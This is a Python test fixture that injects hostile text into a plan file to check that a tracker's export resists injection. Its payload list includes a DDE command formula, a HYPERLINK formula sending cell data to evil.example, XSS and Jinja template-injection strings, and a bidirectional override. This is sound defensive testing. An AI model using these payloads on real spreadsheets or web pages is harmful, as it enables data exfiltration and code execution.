"""Hostile text for the export test: small.yaml with every text field hostile (formulas, markup,
template syntax, bidirectional controls, 100 KB of commentary), loaded with an escalation whose
reason and decision are hostile too."""

from __future__ import annotations

import itertools
from pathlib import Path
from typing import Any

import yaml
from hostile_helpers import CLEAR_ENV, SMALL_PLAN, run_cli

BIG = "A hundred kilobytes of commentary. " * 2926  # ~100 KB
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3 minus first",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "<script>alert('x')</script> owned",
    "**bold** _em_ [link](javascript:alert(1)) | a | pipe | # heading",
    "{{ 'JINJA' ~ 'RAN' }} {{ 7*7 }}",
    "{% for x in range(3) %}LOOPED{% endfor %} {# hidden #}",
    "\u202eexe.doc \u202d and back",
    "<img src=x onerror=alert(1)> & < > \" '",
]
# Text fields of the plan format (codes, refs, dates and status words are left alone)
TEXT_KEYS = {
    "title", "name", "vision", "source", "role", "chair_description", "meets", "area",
    "description", "unit", "note", "period", "commentary", "by", "text", "owner_text",
}  # fmt: skip
LIST_KEYS = {"principles", "commitments"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs as a formula


def hostile_plan() -> tuple[dict[str, Any], list[str]]:
    """small.yaml with every text field hostile (each one different); the texts used."""
    doc = yaml.safe_load(SMALL_PLAN.read_text("utf-8"))
    counter = itertools.count(1)
    used: list[str] = []

    def next_text() -> str:
        n = next(counter)
        value = f"{HOSTILE[n % len(HOSTILE)]} #{n}"
        used.append(value)
        return value

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key in TEXT_KEYS and (isinstance(value, str) or value is None):
                    node[key] = next_text()
                elif key in LIST_KEYS and isinstance(value, list):
                    node[key] = [next_text() for _ in value] or [next_text()]
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(doc)
    action = doc["actions"][0]
    used.remove(action["description"])
    used.remove(action["updates"][-1]["commentary"])
    action["description"] = "=" + BIG  # 100 KB, starting like a formula
    action["updates"][-1]["commentary"] = "@" + BIG
    used += [doc["actions"][0]["description"], doc["actions"][0]["updates"][-1]["commentary"]]
    return doc, used


def load_hostile(folder: Path, url: str) -> list[str]:
    """Load the hostile plan and raise an escalation with hostile reason and decision; the
    hostile texts the database now holds."""
    doc, used = hostile_plan()
    path = folder / "hostile.yaml"
    path.write_text(yaml.safe_dump(doc, allow_unicode=True, sort_keys=False), encoding="utf-8")
    env: dict[str, str | None] = {k: None for k in CLEAR_ENV}
    env["TRACKER_CONFIG"] = str(folder / "tracker.toml")
    reason, decision = HOSTILE[5] + " reason", HOSTILE[0] + " decision"
    for step in (
        ["plan", "import", str(path)],
        ["escalations", "raise", "P1-02", "--from", "families-board",
         "--reason", reason, "--decision", decision],
    ):  # fmt: skip
        outcome = run_cli(step, env)
        assert outcome.exit_code == 0 and not outcome.traceback, (step, outcome)
    return used + [reason, decision]
